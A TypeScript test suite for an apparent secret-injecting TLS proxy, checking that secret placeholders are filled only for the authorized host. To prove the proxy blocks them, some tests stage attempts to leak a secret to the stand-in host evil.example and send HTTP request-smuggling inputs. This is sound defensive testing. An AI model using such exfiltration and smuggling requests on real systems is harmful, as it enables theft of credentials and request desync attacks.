import { execFile } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import type { IncomingMessage, RequestListener } from 'node:http';
import { connect as http2Connect, performServerHandshake } from 'node:http2';
import { createServer as createHttpsServer, type RequestOptions, request } from 'node:https';
import { type Socket, connect as tcpConnect } from 'node:net';
import { join } from 'node:path';
import { Duplex } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { type ConnectionOptions, connect, createServer as createTlsServer, type TLSSocket } from 'node:tls';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import {
  HOST,
  listen,
  listenTcp,
  type Serving,
  type ServingOptions,
  secretFor,
  startServing,
  VALUE,
} from '../../test-support/serving.ts';
import { tempDir } from '../../test-support/temp-dir.ts';

const run = promisify(execFile);

interface Seen {
  readonly serving: Serving;
  /** What reached the server. */
  readonly requests: { readonly message: IncomingMessage; readonly body: Buffer }[];
  readonly guestPort: number;
}

/** An HTTPS server for {@link HOST}, and a guest in front of it. */
async function https(options: ServingOptions = {}, name = HOST, onRequest?: RequestListener): Promise<Seen> {
  const serving = await startServing(options);
  const requests: Seen['requests'] = [];
  const answer: RequestListener = async (message, response) => {
    const body = await buffer(message).catch(() => Buffer.alloc(0));
    requests.push({ message, body });
    response.end(`you sent ${body.length}`);
  };
  const port = await listen(createHttpsServer(await serving.certificateOf(name), onRequest ?? answer));
  return { serving, requests, guestPort: await serving.guestOf('tls', port) };
}

interface Answer {
  readonly status: number | undefined;
  readonly body: Buffer;
}

/** One request as a guest's program makes it. */
function ask(
  { serving, guestPort }: Seen,
  options: RequestOptions & { readonly body?: string | Buffer } = {},
): Promise<Answer> {
  const { body, ...rest } = options;
  return new Promise((resolve, reject) => {
    const call = request(
      {
        host: '127.0.0.1',
        port: guestPort,
        servername: HOST,
        ca: serving.guestCa,
        agent: false,
        ...rest,
        headers: { host: HOST, ...(rest.headers as object) },
      },
      (response) =>
        buffer(response).then((received) => resolve({ status: response.statusCode, body: received }), reject),
    );
    call.on('error', reject);
    call.end(body);
  });
}

/** A guest's TLS connection without a protocol on it. */
async function connectTo({ serving, guestPort }: Seen, options: ConnectionOptions = {}): Promise<TLSSocket> {
  const socket = connect({
    host: '127.0.0.1',
    port: guestPort,
    servername: HOST,
    ca: serving.guestCa,
    ...options,
  });
  socket.on('error', () => {});
  await once(socket, 'secureConnect');
  return socket;
}

/** What comes back for bytes, until the connection ends or breaks. */
async function exchange(seen: Seen, text: string): Promise<string> {
  const socket = await connectTo(seen);
  socket.write(text, 'latin1');
  let received = '';
  socket.on('data', (chunk: Buffer) => {
    received += chunk.toString('latin1');
  });
  await once(socket, 'close');
  return received;
}

describe('requests to the host of a secret', () => {
  it('carry its value in place of the placeholder, everywhere that is configured', async () => {
    const seen = await https();
    const answer = await ask(seen, {
      method: 'POST',
      path: '/p?k=$MSB_K',
      headers: {
        'X-Key': 'a $MSB_K b',
        authorization: `Basic ${Buffer.from('u:$MSB_K').toString('base64')}`,
      },
      body: '{"key":"$MSB_K"}',
    });
    expect(answer.status).toBe(200);
    const [got] = seen.requests;
    expect(got?.message.url).toBe(`/p?k=${VALUE}`);
    expect(got?.message.headers['x-key']).toBe(`a ${VALUE} b`);
    expect(got?.message.headers.authorization).toBe(`Basic ${Buffer.from(`u:${VALUE}`).toString('base64')}`);
    expect(got?.body.toString()).toBe(`{"key":"${VALUE}"}`);
    expect(seen.serving.events).toEqual([]);
  });

  it.each(['TLSv1.2', 'TLSv1.3'] as const)('go over %s, without a protocol negotiated', async (version) => {
    const seen = await https();
    const socket = await connectTo(seen, {
      minVersion: version,
      maxVersion: version,
      ALPNProtocols: ['h2', 'http/1.1'],
    });
    expect(socket.getProtocol()).toBe(version);
    expect(socket.alpnProtocol).toBe(false);
    expect(socket.getPeerCertificate().subject.CN).toBe(HOST);
    socket.end(`GET / HTTP/1.1\r\nHost: ${HOST}\r\nX: $MSB_K\r\nConnection: close\r\n\r\n`);
    expect((await buffer(socket)).toString()).toContain('HTTP/1.1 200 OK');
    expect(seen.requests[0]?.message.headers['x']).toBe(VALUE);
  });

  it('come from curl and openssl like from any other program', async () => {
    const seen = await https();
    const ca = join(tempDir(), 'ca.pem');
    writeFileSync(ca, seen.serving.guestCa);
    const to = `${HOST}:443:127.0.0.1:${seen.guestPort}`;
    const curl = ['-sS', '--max-time', '20', '--cacert', ca, '--connect-to', to, '-H', 'X: $MSB_K'];
    expect((await run('curl', [...curl, '--noproxy', '*', `https://${HOST}/`])).stdout).toBe('you sent 0');
    expect(seen.requests[0]?.message.headers['x']).toBe(VALUE);
    const s_client = ['s_client', '-connect', `127.0.0.1:${seen.guestPort}`, '-servername', HOST];
    const line = ['openssl', ...s_client, '-CAfile', ca, '-verify_return_error', '</dev/null'].join(' ');
    const verified = await run('sh', ['-c', line], { timeout: 20_000 });
    expect(verified.stdout).toContain('Verify return code: 0 (ok)');
  });

  it('bring 16 MiB each way, and more responses on one connection', async () => {
    const body = randomBytes(16 * 1024 * 1024);
    const seen = await https(
      { secrets: [secretFor({ injection: secretFor().injection })] },
      HOST,
      (message, response) => {
        message.pipe(response);
      },
    );
    const digest = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex');
    const fixed = await ask(seen, { method: 'POST', body, headers: { 'content-length': body.length } });
    expect(digest(fixed.body)).toBe(digest(body));
    const chunked = await ask(seen, { method: 'POST', body, headers: { 'transfer-encoding': 'chunked' } });
    expect(digest(chunked.body)).toBe(digest(body));
  });

  it('follow a change of the secrets from the next connection on', async () => {
    const seen = await https();
    const open = await connectTo(seen);
    await seen.serving.live.apply({ change: 'rotate', name: 'K', value: 'second' });
    const line = `GET / HTTP/1.1\r\nHost: ${HOST}\r\nX: $MSB_K\r\nConnection: close\r\n\r\n`;
    open.end(line);
    await buffer(open);
    await ask(seen, { headers: { X: '$MSB_K' } });
    await seen.serving.live.apply({ change: 'remove', name: 'K' });
    await ask(seen, { headers: { X: '$MSB_K' } });
    expect(seen.requests.map(({ message }) => message.headers['x'])).toEqual([VALUE, 'second', '$MSB_K']);
  });
});

describe('placeholders that may not leave', () => {
  it('end the connection, with a report and without a byte to the server', async () => {
    const seen = await https({ names: ['evil.example'] }, 'evil.example');
    const options = { servername: 'evil.example', path: '/p?q=1', headers: { host: 'evil.example' } };
    await expect(ask(seen, { ...options, headers: { ...options.headers, X: '$MSB_K' } })).rejects.toThrow();
    expect(seen.requests).toEqual([]);
    const [event] = seen.serving.events;
    expect(event).toMatchObject({
      type: 'violation',
      report: {
        action: 'block-and-log',
        secret_env_var: 'K',
        placeholder: '$MSB_K',
        protocol: 'http/1.1',
        sni: 'evil.example',
        host: 'evil.example',
        method: 'GET',
        path: '/p',
        location: 'header',
        match_form: 'raw',
        http2_stream_id: null,
      },
    });
    expect(seen.serving.terminations.count).toBe(0);
    expect(JSON.stringify(seen.serving.events)).not.toContain(VALUE);
  });

  it('are such where the server name is forged: nobody looked the address up under it', async () => {
    const seen = await https({ names: ['evil.example'], onViolation: 'block-and-terminate' });
    await expect(ask(seen, { headers: { X: '$MSB_K' } })).rejects.toThrow();
    expect(seen.requests).toEqual([]);
    expect(seen.serving.terminations.count).toBe(1);
  });

  it('stay where they are when a server of the secret leads elsewhere', async () => {
    const verify = [{ pattern: 'evil.example', verify: false }];
    const seen = await https({ tls: { scoped_verify_upstream: verify } }, HOST, (message, response) => {
      seen.requests.push({ message, body: Buffer.alloc(0) });
      response.writeHead(302, { location: 'https://evil.example/' }).end();
    });
    const ca = join(tempDir(), 'ca.pem');
    writeFileSync(ca, seen.serving.guestCa);
    const to = (host: string) => ['--connect-to', `${host}:443:127.0.0.1:${seen.guestPort}`];
    const curl = ['-sSL', '--max-time', '20', '--noproxy', '*', '--cacert', ca, '-H', 'X: $MSB_K'];
    const going = run('curl', [...curl, ...to(HOST), ...to('evil.example'), `https://${HOST}/`]);
    await expect(going).rejects.toThrow();
    expect(seen.requests.map(({ message }) => message.headers['x'])).toEqual([VALUE]);
    expect(seen.serving.events).toMatchObject([{ type: 'violation', report: { sni: 'evil.example' } }]);
  });

  it('are found though they come in pieces, one byte a record', async () => {
    const seen = await https({ names: [] });
    const socket = await connectTo(seen);
    socket.setNoDelay(true);
    const closed = once(socket, 'close');
    for (const character of `GET / HTTP/1.1\r\nHost: ${HOST}\r\nX: $MSB_K\r\n\r\n`) {
      if (socket.writable) socket.write(character);
      await new Promise((resolve) => setImmediate(resolve));
    }
    await closed;
    expect(seen.requests).toEqual([]);
    expect(seen.serving.events).toHaveLength(1);
  });
});

describe('requests that servers may read in two ways', () => {
  it.each<[string, string]>([
    ['for another host', 'GET / HTTP/1.1\r\nHost: evil.example\r\nX: $MSB_K\r\n\r\n'],
    ['with two hosts', `GET / HTTP/1.1\r\nHost: ${HOST}\r\nHost: evil.example\r\n\r\n`],
    [
      'with length and chunks',
      `POST / HTTP/1.1\r\nHost: ${HOST}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET`,
    ],
    ['with a bare line feed', `GET / HTTP/1.1\nHost: ${HOST}\nX: $MSB_K\n\n\r\n\r\n`],
    [
      'behind a good one',
      `GET / HTTP/1.1\r\nHost: ${HOST}\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\nX: $MSB_K\r\n\r\n`,
    ],
  ])('end the connection: %s', async (_, text) => {
    const seen = await https();
    expect(await exchange(seen, text)).not.toContain('you sent');
    expect(seen.requests.map(({ message }) => message.headers['x'])).not.toContain(VALUE);
    expect(seen.serving.events).toMatchObject([{ type: 'refused', serverName: HOST }]);
  });
});

describe('servers', () => {
  it('that cannot be reached reset the guest', async () => {
    const serving = await startServing();
    const port = await listen(createTlsServer());
    const seen = { serving, requests: [], guestPort: await serving.guestOf('tls', 1) };
    expect(port).toBeGreaterThan(0);
    await expect(ask(seen)).rejects.toMatchObject({ code: 'ECONNRESET' });
    expect(serving.events).toMatchObject([{ type: 'unreachable', serverName: HOST }]);
  });

  it('that are not trusted get nothing, and are, where the configuration says so', async () => {
    const strict = await https({ tls: { upstream_ca_cert: [] } });
    await expect(ask(strict, { headers: { X: '$MSB_K' } })).rejects.toThrow();
    expect(strict.requests).toEqual([]);
    expect(strict.serving.events).toMatchObject([{ type: 'unreachable' }]);
    const other = await https({}, 'other.example');
    await expect(ask(other)).rejects.toThrow();
    expect(other.requests).toEqual([]);
    const lax = await https(
      { tls: { scoped_verify_upstream: [{ pattern: '*.example.com', verify: false }] } },
      'other.example',
    );
    expect((await ask(lax)).status).toBe(200);
  });

  it('that stall in their handshake are given up when the guest goes', async () => {
    const serving = await startServing();
    let [connected, closed] = [false, false];
    const port = await listenTcp((socket) => {
      connected = true;
      socket.resume().on('end', () => {
        closed = true;
      });
    });
    const seen = { serving, requests: [], guestPort: await serving.guestOf('tls', port) };
    const raw = tcpConnect(seen.guestPort, '127.0.0.1');
    await connectTo(seen, { socket: raw });
    await expect.poll(() => connected, { timeout: 5000 }).toBe(true);
    raw.resetAndDestroy();
    await expect.poll(() => closed, { timeout: 5000 }).toBe(true);
  });

  it('may go on answering after the guest has ended', async () => {
    const serving = await startServing();
    const port = await listen(
      createTlsServer({ ...(await serving.certificateOf(HOST)), allowHalfOpen: true }, (socket) => {
        socket.resume().on('end', () => {
          socket.write('one ');
          setTimeout(() => socket.end('two'), 50);
        });
      }),
    );
    const seen = { serving, requests: [], guestPort: await serving.guestOf('tls', port) };
    const raw = tcpConnect({ host: '127.0.0.1', port: seen.guestPort, allowHalfOpen: true });
    const socket = await connectTo(seen, { socket: raw });
    socket.end('\x01 not HTTP');
    expect((await buffer(socket)).toString()).toBe('one two');
  });

  it('are read no faster than the guest reads', async () => {
    let sent = 0;
    const seen = await https({}, HOST, (_message, response) => {
      const chunk = Buffer.alloc(256 * 1024);
      const more = (): void => {
        while (sent < 128 * 1024 * 1024) {
          sent += chunk.length;
          if (!response.write(chunk)) return;
        }
        response.end();
      };
      response.on('drain', more);
      more();
    });
    const socket = await connectTo(seen);
    socket.pause();
    socket.write(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`);
    let before = -1;
    while (before !== sent) {
      before = sent;
      await new Promise((resolve) => setTimeout(resolve, 300));
    }
    expect(sent).toBeGreaterThan(0);
    expect(sent).toBeLessThan(64 * 1024 * 1024);
    socket.destroy();
  });

  it('that reset are seen to reset, and see when the guest resets', async () => {
    const serving = await startServing();
    const reset: string[] = [];
    let under: Socket | undefined;
    const server = createTlsServer(await serving.certificateOf(HOST), (socket) => {
      socket.on('error', (error: NodeJS.ErrnoException) => reset.push(error.code ?? ''));
      socket.on('data', (data: Buffer) => {
        if (data.toString().startsWith('\x01reset')) under?.resetAndDestroy();
      });
    });
    server.on('connection', (socket: Socket) => {
      under = socket;
    });
    const port = await listen(server);
    const seen = { serving, requests: [], guestPort: await serving.guestOf('tls', port) };
    const victim = await connectTo(seen);
    const error = once(victim, 'error');
    victim.write('\x01reset me');
    expect(await error).toMatchObject([{ code: 'ECONNRESET' }]);
    const raw = tcpConnect(seen.guestPort, '127.0.0.1');
    const leaver = await connectTo(seen, { socket: raw });
    leaver.write('\x01hello');
    await new Promise((resolve) => setTimeout(resolve, 100));
    raw.resetAndDestroy();
    await expect.poll(() => reset, { timeout: 5000 }).toContain('ECONNRESET');
  });

  it('may leave HTTP, and then any bytes pass', async () => {
    const serving = await startServing();
    const server = createHttpsServer(await serving.certificateOf(HOST));
    server.on('upgrade', (message: IncomingMessage, socket) => {
      expect(message.headers['x']).toBe(VALUE);
      socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n');
      socket.pipe(socket);
    });
    const seen = { serving, requests: [], guestPort: await serving.guestOf('tls', await listen(server)) };
    const socket = await connectTo(seen);
    const lines = ['GET / HTTP/1.1', `Host: ${HOST}`, 'X: $MSB_K', 'Upgrade: x', 'Connection: Upgrade'];
    socket.write([...lines, '', ''].join('\r\n'));
    const [head] = (await once(socket, 'data')) as [Buffer];
    expect(head.toString()).toMatch(/^HTTP\/1.1 101/);
    const frames = Buffer.concat([Buffer.from('\x81\r\n\r\nGET x\r\n\r\n'), randomBytes(1000)]);
    socket.write(frames);
    const echoed: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => echoed.push(chunk));
    await expect.poll(() => Buffer.concat(echoed).equals(frames), { timeout: 5000 }).toBe(true);
    socket.destroy();
  });
});

describe('guests', () => {
  it('that do not trust the authority are told of', async () => {
    const seen = await https();
    const ca = join(tempDir(), 'ca.pem');
    writeFileSync(ca, seen.serving.upstreamCa.certificatePem);
    const to = `${HOST}:443:127.0.0.1:${seen.guestPort}`;
    const curl = ['-sS', '--max-time', '20', '--noproxy', '*', '--cacert', ca, '--connect-to', to];
    await expect(run('curl', [...curl, `https://${HOST}/`])).rejects.toThrow(/certificate/);
    await expect.poll(() => seen.serving.events).toMatchObject([{ type: 'untrusting', serverName: HOST }]);
    expect(seen.requests).toEqual([]);
  });

  it('that send garbage after their hello are closed', async () => {
    const seen = await https();
    const socket = await connectTo(seen, { socket: tcpConnect(seen.guestPort, '127.0.0.1') });
    const raw = tcpConnect(seen.guestPort, '127.0.0.1');
    raw.on('error', () => {});
    // A hello, then something that is no TLS.
    const hello = await new Promise<Buffer>((resolve) => {
      const pipe = new Duplex({ read() {}, write: (chunk: Buffer) => resolve(chunk) });
      connect({ socket: pipe, servername: HOST }).on('error', () => {});
    });
    raw.write(hello);
    raw.write(Buffer.alloc(2000, 0x41));
    await once(raw.resume(), 'close');
    socket.destroy();
    expect(seen.requests).toEqual([]);
  });

  it('may break off a record in the middle of a connection', async () => {
    const seen = await https();
    const raw = tcpConnect(seen.guestPort, '127.0.0.1');
    const socket = await connectTo(seen, { socket: raw });
    const closed = new Promise((resolve) => socket.once('close', resolve));
    raw.write(Buffer.from([0x17, 3, 3, 0, 32, ...randomBytes(32)]));
    await closed;
  });
});

it('HTTP/2 with prior knowledge carries secrets too', async () => {
  const serving = await startServing({
    secrets: [secretFor({ injection: { headers: true, basic_auth: true, query_params: true, body: false } })],
  });
  const seen: Record<string, unknown>[] = [];
  const port = await listen(
    createTlsServer(await serving.certificateOf(HOST), (socket) => {
      const peer = performServerHandshake(socket);
      peer.on('error', () => {});
      peer.on('stream', (stream, headers) => {
        stream.resume().on('end', () => {
          seen.push({ ...headers });
          stream.respond({ ':status': 200 });
          stream.end('done');
        });
      });
    }),
  );
  const guestPort = await serving.guestOf('tls', port);
  const socket = await connectTo({ serving, requests: [], guestPort });
  const session = http2Connect(`https://${HOST}`, { createConnection: () => socket });
  for (let round = 0; round < 3; round += 1) {
    const call = session.request({ ':path': '/x?k=$MSB_K', ':method': 'POST', 'x-key': `${round} $MSB_K` });
    call.end('body');
    expect((await buffer(call)).toString()).toBe('done');
  }
  expect(seen.map((headers) => headers['x-key'])).toEqual([`0 ${VALUE}`, `1 ${VALUE}`, `2 ${VALUE}`]);
  expect(seen[2]?.[':path']).toBe(`/x?k=${VALUE}`);
  const stopped = once(session, 'close');
  session.on('error', () => {});
  const wrong = session.request({ ':path': '/', ':authority': 'evil.example', 'x-key': '$MSB_K' });
  wrong.on('error', () => {});
  await stopped;
  expect(seen).toHaveLength(3);
  expect(serving.events).toMatchObject([{ type: 'refused' }]);
});
